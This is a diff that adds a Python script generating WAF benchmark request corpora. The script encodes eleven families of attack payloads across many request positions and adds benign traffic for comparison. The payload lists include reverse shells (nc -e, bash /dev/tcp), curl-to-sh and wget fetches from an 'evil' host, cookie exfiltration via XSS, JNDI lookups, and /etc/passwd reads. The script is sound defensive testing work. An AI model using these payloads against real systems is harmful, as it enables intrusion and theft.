@@ -1,0 +1,202 @@
+#!/usr/bin/env python3
+"""Write a corpus for bench/waf_replay.py (JSON Lines on standard output).
+
+    bench/waf_corpus.py probe > probe.jsonl          # attacks in 21 places and encodings, and benign traffic
+    bench/waf_corpus.py words --seed 1 --count 3000 > words.jsonl   # benign-looking word salad
+
+`probe`: each payload of eleven families (SQLi, XSS, LFI, RFI, RCE, PHP, Java, SSTI, NoSQL,
+SSRF, session fixation) in the query (plain, `+`, double-encoded, as a name, polluted), the
+path (and behind an encoded `?`), a form, JSON (plain, `\\u`-escaped, nested, with a
+charset), XML, multipart, a cookie, the User-Agent, the Referer, a custom header, text/plain,
+and after 3,000 bytes of padding; then ordinary requests (prose with quotes and dashes in
+four places, JSON APIs, uploads, GraphQL, a JWT, analytics cookies...). `words`: random
+phrases of SQL keywords, English words and punctuation in a query or a form, all `benign`:
+where two engines disagree on them, one of them misfires. Neither is the external corpus the
+issue names; they are for finding where engines differ.
+"""
+import argparse, base64, json, random, urllib.parse
+
+q = lambda s: urllib.parse.quote(s, safe="")
+qp = lambda s: urllib.parse.quote_plus(s)
+
+ATTACKS = {
+ "sqli": ["' or 1=1--", "1' union select username,password from users--", "1 AND 1=1", "admin'--",
+          "1; drop table users", "' OR 'a'='a", "1' AND SLEEP(5)#", "1 UNION/**/SELECT/**/1,2,3",
+          "'; exec xp_cmdshell('dir')--", "1' and extractvalue(1,concat(0x7e,version()))--",
+          "-1' or 1=1 limit 1 -- -+", "1 or benchmark(10000000,md5(1))", "' having 1=1--",
+          "1' ORDER BY 3--", "\" or \"\"=\"", "1)) or ((1=1", "0x31 or 1=1", "' waitfor delay '0:0:5'--",
+          "admin' #", "1' || '1'='1", "SELECT * FROM information_schema.tables",
+          "1 and (select substring(@@version,1,1))='5'", "' AND 1=(SELECT COUNT(*) FROM tablenames); --",
+          "1'/*!50000union*/ select 1,2", "pg_sleep(5)--", "'+convert(int,@@version)+'"],
+ "xss": ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>",
+         "javascript:alert(document.cookie)", "\"><script>alert(1)</script>", "<body onload=alert(1)>",
+         "<iframe src=javascript:alert(1)>", "<a href=\"javascript:alert(1)\">x</a>", "<ScRiPt>alert(1)</sCrIpT>",
+         "<img src=\"x\" onerror=\"eval(atob('YWxlcnQoMSk='))\">", "'-alert(1)-'", "<details open ontoggle=alert(1)>",
+         "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<input autofocus onfocus=alert(1)>",
+         "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">", "<svg><animate onbegin=alert(1) attributeName=x>",
+         "\"onmouseover=\"alert(1)", "<div style=\"background:url(javascript:alert(1))\">", "<marquee onstart=alert(1)>",
+         "document.location='http://evil/'+document.cookie", "<scr<script>ipt>alert(1)</script>", "%3Cscript%3Ealert(1)%3C/script%3E"],
+ "lfi": ["../../../../etc/passwd", "..%2f..%2f..%2fetc%2fpasswd", "/etc/shadow", "....//....//etc/passwd",
+         "..\\..\\..\\windows\\win.ini", "/proc/self/environ", "php://filter/convert.base64-encode/resource=index.php",
+         "file:///etc/passwd", "../../../../../../boot.ini", "%2e%2e/%2e%2e/etc/hosts", "/var/log/apache2/access.log",
+         "..%c0%af..%c0%afetc/passwd", ".htaccess", "/.git/config", "../../../../etc/passwd%00.jpg"],
+ "rfi": ["http://evil.example/shell.txt?", "http://203.0.113.5/x.php", "https://evil.example/c99.txt??",
+         "ftp://evil.example/shell.php", "http://evil.example/shell.txt%00", "data://text/plain;base64,PD9waHAgcGhwaW5mbygpOz8+"],
+ "rce": [";cat /etc/passwd", "| id", "`whoami`", "$(curl http://evil/x|sh)", "; nc -e /bin/sh 10.0.0.1 4444",
+         "&& wget http://evil/x -O /tmp/x", "|| ping -c 10 127.0.0.1", "; ls -la /", "${IFS}cat${IFS}/etc/passwd",
+         "; bash -i >& /dev/tcp/10.0.0.1/8080 0>&1", "a;/bin/bash -c 'id'", "| powershell -enc SQBFAFgA",
+         "; python -c 'import os;os.system(\"id\")'", "$(echo aWQ=|base64 -d)", "';system('id');'", "&& type C:\\windows\\win.ini",
+         "; /usr/bin/perl -e 'exec \"/bin/sh\"'", "c\\at /et\\c/pas\\swd", "/???/??t /???/p??s??"],
+ "php": ["<?php system($_GET['c']); ?>", "php://input", "<?= `id` ?>", "phpinfo();", "eval(base64_decode('cGhwaW5mbygpOw=='));",
+         "O:8:\"stdClass\":1:{s:4:\"test\";s:4:\"test\";}", "assert($_POST['x'])", "file_put_contents('x.php','<?php')",
+         "preg_replace('/.*/e','system(\"id\")','')", "$_SERVER['HTTP_USER_AGENT']", "call_user_func('system','id')"],
+ "java": ["${jndi:ldap://evil.example/a}", "${${lower:j}ndi:ldap://evil/a}", "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x",
+          "java.lang.Runtime.getRuntime().exec('id')", "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}",
+          "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==", "${T(java.lang.Runtime).getRuntime().exec('id')}", "#{7*7}",
+          "java.lang.ProcessBuilder", "<java><object class=\"java.lang.ProcessBuilder\"></object></java>"],
+ "ssti": ["{{7*7}}", "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}", "<%= 7*7 %>", "${7*7}",
+          "{{''.__class__.__mro__[1].__subclasses__()}}", "{% import os %}{{os.system('id')}}"],
+ "nosqli": ["{\"$gt\": \"\"}", "[$ne]=1", "'; return true; var x='", "{\"$where\": \"sleep(1000)\"}"],
+ "ssrf": ["http://169.254.169.254/latest/meta-data/", "http://127.0.0.1:6379/", "gopher://127.0.0.1:25/_HELO",
+          "http://[::1]/admin", "http://0x7f000001/", "file:///proc/self/cmdline"],
+ "session": ["PHPSESSID=attacker", "jsessionid=1234567890abcdef", "<meta http-equiv=\"Set-Cookie\" content=\"SESSIONID=abc\">",
+             "document.cookie=\"sessionid=abc\""],
+}
+
+def req(kind, name, path, method="GET", headers=None, body=""):
+    d = {"kind": kind, "name": name, "method": method, "path": path, "body": body}
+    if headers is not None:
+        d["headers"] = headers
+    return d
+
+BROWSER = [["User-Agent", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 Chrome/120 Safari/537.36"],
+           ["Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"],
+           ["Accept-Language", "en-GB,en;q=0.8"]]
+
+def with_h(*extra):
+    return BROWSER + [list(e) for e in extra]
+
+
+def probe():
+    out = []
+    for fam, payloads in ATTACKS.items():
+        for i, p in enumerate(payloads):
+            n = f"{fam}#{i}"
+            out.append(req("attack", f"{n} query", "/search?q=" + q(p)))
+            out.append(req("attack", f"{n} query plus", "/search?q=" + qp(p)))
+            out.append(req("attack", f"{n} query double-encoded", "/search?q=" + q(q(p))))
+            out.append(req("attack", f"{n} arg name", "/search?" + q(p) + "=1"))
+            out.append(req("attack", f"{n} path", "/files/" + q(p)))
+            out.append(req("attack", f"{n} path %3F", "/page%3F" + q(p)))
+            out.append(req("attack", f"{n} form", "/login", "POST", with_h(("Content-Type", "application/x-www-form-urlencoded")), "user=ann&comment=" + qp(p)))
+            out.append(req("attack", f"{n} json", "/api/items", "POST", with_h(("Content-Type", "application/json")), json.dumps({"name": p, "qty": 1})))
+            out.append(req("attack", f"{n} json unicode-escaped", "/api/items", "POST", with_h(("Content-Type", "application/json")), json.dumps({"name": p}, ensure_ascii=True).replace("'", "\\u0027").replace("<", "\\u003c")))
+            out.append(req("attack", f"{n} json nested", "/api/items", "POST", with_h(("Content-Type", "application/json")), json.dumps({"a": {"b": [{"c": p}]}})))
+            out.append(req("attack", f"{n} json charset", "/api/items", "POST", with_h(("Content-Type", "application/json; charset=utf-8")), json.dumps({"name": p})))
+            out.append(req("attack", f"{n} xml", "/api/xml", "POST", with_h(("Content-Type", "application/xml")), f"<?xml version=\"1.0\"?><item><name>{p.replace('&','&amp;').replace('<','&lt;')}</name></item>"))
+            out.append(req("attack", f"{n} multipart", "/upload", "POST", with_h(("Content-Type", "multipart/form-data; boundary=XyZ")),
+                           f"--XyZ\r\nContent-Disposition: form-data; name=\"comment\"\r\n\r\n{p}\r\n--XyZ--\r\n"))
+            out.append(req("attack", f"{n} cookie", "/", headers=with_h(("Cookie", "session=abc; pref=" + q(p)))))
+            out.append(req("attack", f"{n} user-agent", "/", headers=[["User-Agent", p], ["Accept", "*/*"]]))
+            out.append(req("attack", f"{n} referer", "/", headers=with_h(("Referer", "https://shop.example/?q=" + q(p)))))
+            out.append(req("attack", f"{n} custom header", "/", headers=with_h(("X-Custom", p))))
+            out.append(req("attack", f"{n} long padding", "/search?q=" + "a" * 3000 + q(p)))
+            out.append(req("attack", f"{n} padded value", "/search?q=" + q("x " * 1500 + p)))
+            out.append(req("attack", f"{n} text/plain body", "/api", "POST", with_h(("Content-Type", "text/plain")), p))
+            out.append(req("attack", f"{n} hpp", "/search?q=safe&q=" + q(p)))
+
+    BENIGN_TEXT = [
+     "Tom and Jerry or the cat's -- best friend", "I'd like to select a union of both options, or drop it entirely",
+     "O'Brien & Sons, 12 Main St.", "Where can I buy 2-3 items at 50% off?", "rock 'n' roll", "price >= 10 and <= 20",
+     "Hello! How are you? I'm fine; thanks :-)", "email me at ann.example+shop@example.com", "C++ and C# developers wanted",
+     "The script tag is used in HTML", "Use the command line to list files", "from 2026-12-01 to 2026-12-31",
+     "Call 555-0100 ext. 2", "She said \"yes\" -- finally!", "What does 1=1 mean in logic?", "cat, dog, and bird",
+     "Order #12345 (urgent)", "Meet me @ 5pm; bring the slides", "Résumé naïve café — Zürich", "東京 大阪 名古屋",
+     "50/50 split, 1/2 cup sugar", "https://www.example.org/docs?page=2&lang=en", "Java and JavaScript are different",
+     "select your size below", "Drop-off is between 9 and 5", "Windows 10 vs. Linux", "a+b=c", "The best (and worst) of times",
+     "I want to delete my account", "Alert: your package is on its way", "shipping & handling: $5.99",
+     "#hashtag @mention", "100% cotton; machine-wash", "it's a 'quoted' word", "yes/no/maybe", "Q&A: how to exec a plan",
+     "Version 2.0.1-beta", "path/to/my/file.txt", "The user's profile", "set-cookie preferences for cookies policy",
+    ]
+    GA = "_ga=GA1.2.1234567890.1700000000; _gid=GA1.2.987654321.1700000000; _fbp=fb.1.1700000000000.123456789"
+    for i, t in enumerate(BENIGN_TEXT):
+        out.append(req("benign", f"text#{i} query", "/search?q=" + qp(t)))
+        out.append(req("benign", f"text#{i} form", "/contact", "POST", with_h(("Content-Type", "application/x-www-form-urlencoded")), "name=Ann&message=" + qp(t)))
+        out.append(req("benign", f"text#{i} json", "/api/reviews", "POST", with_h(("Content-Type", "application/json")), json.dumps({"title": "Review", "body": t, "stars": 4})))
+        out.append(req("benign", f"text#{i} multipart", "/upload", "POST", with_h(("Content-Type", "multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW")),
+                       f"------WebKitFormBoundary7MA4YWxkTrZu0gW\r\nContent-Disposition: form-data; name=\"caption\"\r\n\r\n{t}\r\n------WebKitFormBoundary7MA4YWxkTrZu0gW--\r\n"))
+    BENIGN_REQ = [
+     req("benign", "home", "/"), req("benign", "asset", "/static/app.3f2a1b.js", headers=with_h(("Accept", "*/*"))),
+     req("benign", "image", "/img/logo.png", headers=with_h(("Accept", "image/avif,image/webp,*/*"))),
+     req("benign", "ga cookies", "/", headers=with_h(("Cookie", GA))),
+     req("benign", "jwt bearer", "/api/me", headers=with_h(("Authorization", "Bearer eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIiwiaWF0IjoxNTE2MjM5MDIyfQ.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c"))),
+     req("benign", "redirect param", "/login?next=" + q("https://shop.example/account?tab=orders")),
+     req("benign", "utm", "/?utm_source=newsletter&utm_medium=email&utm_campaign=winter_sale_2026&fbclid=IwAR2xyz"),
+     req("benign", "long query", "/search?" + "&".join(f"f{i}=v{i}" for i in range(60))),
+     req("benign", "uuid path", "/orders/3f2a1b4c-5d6e-7f80-9a1b-2c3d4e5f6a7b"),
+     req("benign", "json api array", "/api/cart", "POST", with_h(("Content-Type", "application/json")), json.dumps({"items": [{"sku": "A-1", "qty": 2}, {"sku": "B-2", "qty": 1}], "coupon": None})),
+     req("benign", "json put", "/api/profile", "PUT", with_h(("Content-Type", "application/json")), json.dumps({"name": "Ann O'Neil", "bio": "Engineer -- loves rock 'n' roll", "tags": ["a", "b"]})),
+     req("benign", "json patch", "/api/profile", "PATCH", with_h(("Content-Type", "application/json")), json.dumps({"phone": "+44 20 7946 0958"})),
+     req("benign", "delete", "/api/items/42", "DELETE"),
+     req("benign", "graphql", "/graphql", "POST", with_h(("Content-Type", "application/json")), json.dumps({"query": "query Product($id: ID!) { product(id: $id) { name price } }", "variables": {"id": "42"}})),
+     req("benign", "base64 image json", "/api/avatar", "POST", with_h(("Content-Type", "application/json")), json.dumps({"image": "data:image/png;base64," + base64.b64encode(bytes(range(256)) * 4).decode()})),
+     req("benign", "upload binary", "/upload", "POST", with_h(("Content-Type", "multipart/form-data; boundary=----WebKitFormBoundaryABC")),
+         "------WebKitFormBoundaryABC\r\nContent-Disposition: form-data; name=\"file\"; filename=\"report.pdf\"\r\nContent-Type: application/pdf\r\n\r\n%PDF-1.4 binary-ish content 0123456789\r\n------WebKitFormBoundaryABC--\r\n"),
+     req("benign", "octet-stream", "/api/blob", "POST", with_h(("Content-Type", "application/octet-stream")), "\u0001\u0002 binary data ' or 1=1 in a blob"),
+     req("benign", "markdown comment", "/api/comments", "POST", with_h(("Content-Type", "application/json")), json.dumps({"body": "Run `npm install` and then `npm test`. See [docs](https://example.org/docs)."})),
+     req("benign", "search with quotes", "/search?q=" + qp("\"exact phrase\" -excluded")),
+     req("benign", "email arg", "/subscribe?email=ann%40example.com"),
+     req("benign", "price range", "/search?min=10&max=20&sort=-price"),
+     req("benign", "xml soap", "/soap", "POST", with_h(("Content-Type", "text/xml")), "<?xml version=\"1.0\"?><Envelope><Body><GetPrice><Item>Apples</Item></GetPrice></Body></Envelope>"),
+     req("benign", "head", "/", "HEAD"), req("benign", "options cors", "/api/items", "OPTIONS", with_h(("Origin", "https://app.example"), ("Access-Control-Request-Method", "POST"))),
+     req("benign", "if-none-match", "/static/app.css", headers=with_h(("If-None-Match", "\"abc123\""))),
+     req("benign", "range", "/video.mp4", headers=with_h(("Range", "bytes=0-1023"))),
+     req("benign", "accept-encoding", "/", headers=with_h(("Accept-Encoding", "gzip, deflate, br, zstd"))),
+     req("benign", "curl", "/api/status", headers=[["User-Agent", "curl/8.5.0"], ["Accept", "*/*"]]),
+     req("benign", "mobile app", "/api/feed?since=1700000000", headers=[["User-Agent", "ShopApp/5.2 (iPhone; iOS 17.1)"], ["Accept", "application/json"]]),
+     req("benign", "unicode path", "/products/" + q("caffè-latte")),
+     req("benign", "semicolon matrix", "/catalog;jsessionid=ABC123?x=1"),
+     req("benign", "filter expression", "/api/items?filter=" + q("status eq 'open' and priority gt 2")),
+     req("benign", "sort fields", "/api/items?sort=created_at,-name&fields=id,name,price"),
+     req("benign", "form with url", "/share", "POST", with_h(("Content-Type", "application/x-www-form-urlencoded")), "url=" + qp("https://news.example/article?id=7&ref=home") + "&note=" + qp("Worth a read!")),
+     req("benign", "wiki edit", "/wiki/edit", "POST", with_h(("Content-Type", "application/x-www-form-urlencoded")), "text=" + qp("== Heading ==\n* item one\n* item two\n'''bold''' and ''italic''")),
+     req("benign", "code snippet", "/api/snippets", "POST", with_h(("Content-Type", "application/json")), json.dumps({"code": "for (let i = 0; i < 10; i++) { console.log(i); }"})),
+     req("benign", "address", "/checkout", "POST", with_h(("Content-Type", "application/x-www-form-urlencoded")), "addr=" + qp("Flat 3, 14 St. John's Rd; London") + "&zip=" + qp("SW1A 1AA")),
+    ]
+    out += BENIGN_REQ
+    return out
+
+
+WORDS = "the a and or not select from where union order by group having drop table insert into values update set delete like in is null true false on off yes no it's don't can't O'Brien rock'n'roll 1 2 10 42 3.5 -1 0x1f 1e3 $5 50% #1 @home user admin test foo bar id name email price date 2026-12-01 12:30 a.b c/d e-f g_h (x) [y] {z} <b> ; , . : ! ? ' \" ` -- /* */ = < > + - * & | ^ ~ \\ script alert on load src http://example.org www.example.com cat ls echo sleep benchmark char concat exec system eval".split(" ")
+
+
+def words(seed, count):
+    rng = random.Random(seed)
+    out = []
+    for _ in range(count):
+        n = rng.randint(2, 9)
+        text = " ".join(rng.choice(WORDS) for _ in range(n))
+        if rng.random() < 0.3:
+            text = text.replace(" ", rng.choice(["", "+", "_", "  "]))
+        place = rng.random()
+        q = urllib.parse.quote_plus(text)
+        if place < 0.6:
+            d = {"kind": "benign", "name": "q " + text, "method": "GET", "path": "/search?q=" + q}
+        else:
+            d = {"kind": "benign", "name": "form " + text, "method": "POST", "path": "/f", "headers": [["User-Agent", "Mozilla/5.0 (X11; Linux x86_64) Chrome/120"], ["Accept", "*/*"], ["Content-Type", "application/x-www-form-urlencoded"]], "body": "a=1&msg=" + q}
+        out.append(d)
+    return out
+
+
+def main():
+    ap = argparse.ArgumentParser(usage=__doc__)
+    ap.add_argument("kind", choices=["probe", "words"])
+    ap.add_argument("--seed", type=int, default=1)
+    ap.add_argument("--count", type=int, default=3000)
+    args = ap.parse_args()
+    for case in probe() if args.kind == "probe" else words(args.seed, args.count):
+        print(json.dumps(case, ensure_ascii=False))
+
+
+if __name__ == "__main__":
+    main()
